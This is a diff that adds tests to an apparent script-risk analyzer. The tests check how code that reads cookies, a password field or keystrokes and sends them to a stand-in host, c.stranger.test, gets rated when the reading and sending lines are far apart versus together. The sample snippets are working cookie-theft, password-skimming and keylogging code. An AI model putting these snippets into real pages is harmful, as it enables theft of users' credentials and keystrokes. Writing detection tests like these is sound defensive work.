@@ -95,3 +95,30 @@ describe("the length of a program", () => {
 		expect(levelOf(lengthened(code))).toBe("amber");
 	});
 });
+
+describe("a path over a long way in a long program", () => {
+	const far = (from: string, to: string) => {
+		const [body = "", ...fillers] = lengthened("").split("\n");
+		return on([from, body, ...fillers, to].join("\n"));
+	};
+
+	test.each([
+		["cookies", `let kept = document.cookie;`, `fetch("https://c.stranger.test/?" + kept);`],
+		[
+			"a password",
+			`const read = () => document.querySelector("[type=password]").value;`,
+			`fetch("https://c.stranger.test/?" + read());`,
+		],
+		[
+			"keys",
+			`let typed = ""; addEventListener("keydown", (event) => { typed += event.key; });`,
+			`setInterval(() => fetch("https://c.stranger.test/?" + typed), 1000);`,
+		],
+	])("is worth a look, and its sentence says 'unless': %s", (_title, from, to) => {
+		const { risk_level, vulnerabilities } = analyzeScript({ code: far(from, to) });
+		expect(risk_level).toBe("amber");
+		expect(vulnerabilities[0]?.description).toMatch(/, unless the values that the script computes rule it out\.$/);
+		// The same in one place.
+		expect(levelOf(lengthened(on(`${from} ${to}`)))).toBe("red");
+	});
+});
